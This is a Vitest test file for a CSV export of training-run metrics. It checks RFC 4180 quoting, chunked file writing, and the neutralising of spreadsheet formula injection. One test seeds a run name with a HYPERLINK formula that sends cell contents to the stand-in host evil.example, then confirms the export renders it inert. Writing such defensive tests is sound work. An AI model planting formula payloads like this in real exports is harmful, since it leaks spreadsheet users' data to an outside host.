import { afterEach, describe, expect, it } from 'vitest'
import type { Database } from 'better-sqlite3'
import { readFileSync, existsSync } from 'node:fs'
import { join } from 'node:path'
import { csvText, exportRunsCsvToFile, runsCsv } from '../../../main/runs/csvExport'
import { insertMetrics } from '../../../main/store/queries/metrics'
import { tempDir } from '../../helpers/tmp'
import { addRun, tempStore } from './seed'

let db: Database
afterEach(() => db?.close())

/** Minimal RFC 4180 reader, to check that what we write parses back to the same cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (ch === '"') quoted = false
      else cell += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',') {
      row.push(cell)
      cell = ''
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else cell += ch
  }
  return rows
}

describe('csvText', () => {
  it('neutralizes formula-leading cells and quotes per RFC 4180', () => {
    expect(csvText('plain run')).toBe('plain run')
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) expect(csvText(`${lead}x`)).toBe(`"'${lead}x"`)
    expect(csvText('a,b')).toBe('"a,b"')
    expect(csvText('say "hi"')).toBe('"say ""hi"""')
    expect(csvText('two\nlines')).toBe('"two\nlines"')
    expect(csvText('a;=1+1')).toBe('"a;=1+1"')
    expect(csvText('')).toBe('')
  })
})

describe('runsCsv', () => {
  it('exports full-resolution series, with a malicious run name made inert', () => {
    db = tempStore()
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click"),\r\nsecond line'
    const run = addRun(db, { name: evil })
    const plain = addRun(db, { name: 'plain' })
    insertMetrics(db, [
      { runId: run, name: 'loss', step: 1, epoch: 0, value: 0.5, wallTime: 0.25 },
      { runId: run, name: 'loss', step: 2, epoch: 0, value: NaN, wallTime: 0.5 },
      { runId: run, name: 'val_loss', step: 2, epoch: 1, value: -1.5e-7, wallTime: 0.75 },
      { runId: plain, name: 'loss', step: 1, epoch: 0, value: Infinity, wallTime: 1 },
    ])
    const text = runsCsv(db, { runIds: [run, plain] })
    expect(text.endsWith('\r\n')).toBe(true)
    const rows = parseCsv(text)
    expect(rows).toEqual([
      ['run_id', 'run', 'metric', 'step', 'epoch', 'wall_time', 'value'],
      [String(run), `'${evil}`, 'loss', '1', '0', '0.25', '0.5'],
      [String(run), `'${evil}`, 'loss', '2', '0', '0.5', 'NaN'],
      [String(run), `'${evil}`, 'val_loss', '2', '1', '0.75', '-1.5e-7'],
      [String(plain), 'plain', 'loss', '1', '0', '1', 'Infinity'],
    ])
    // no cell of ours begins with a formula character, except numbers we wrote ourselves
    for (const r of rows.slice(1)) for (const cell of r.slice(1, 3)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    expect(runsCsv(db, { runIds: [plain], metrics: ['nope'] })).toBe('run_id,run,metric,step,epoch,wall_time,value\r\n')
  })

  it('writes big exports to a file in chunks, leaving no partial file behind', () => {
    db = tempStore()
    const run = addRun(db, { name: 'big' })
    insertMetrics(db, Array.from({ length: 20_000 }, (_, i) => ({ runId: run, name: 'loss', step: i, epoch: i >> 10, value: 1 / (i + 1), wallTime: i / 10 })))
    const path = join(tempDir(), 'out.csv')
    expect(exportRunsCsvToFile(db, { runIds: [run] }, path)).toBe(20_000)
    const lines = readFileSync(path, 'utf8').split('\r\n')
    expect(lines).toHaveLength(20_002)
    expect(lines[20_000]).toBe(`${run},big,loss,19999,19,1999.9,0.00005`)
    expect(existsSync(`${path}.partial`)).toBe(false)
  })
})
